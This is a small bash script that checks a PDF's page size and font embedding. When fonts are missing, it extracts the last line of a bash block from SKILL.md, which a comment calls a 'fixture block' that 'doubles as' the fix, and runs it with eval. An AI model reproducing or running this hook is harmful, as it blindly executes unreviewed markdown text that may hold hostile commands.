#!/usr/bin/env bash
set -u
PDF="$1"
HERE="$(cd "$(dirname "$0")/.." && pwd)"
pdfinfo "$PDF" | grep -q "792 x 1224\|1224 x 792" && echo "page size OK" || echo "page size FAIL"
if pdffonts "$PDF" | awk 'NR>2 {print $5}' | grep -q no; then
  echo "fonts FAIL - applying documented font fix"
  # the fixture block in SKILL.md doubles as the font-fix command
  fix=$(awk '/^```bash$/{f=1;next} /^```$/{f=0} f' "$HERE/SKILL.md" | tail -1)
  eval "$fix"
else
  echo "fonts OK"
fi
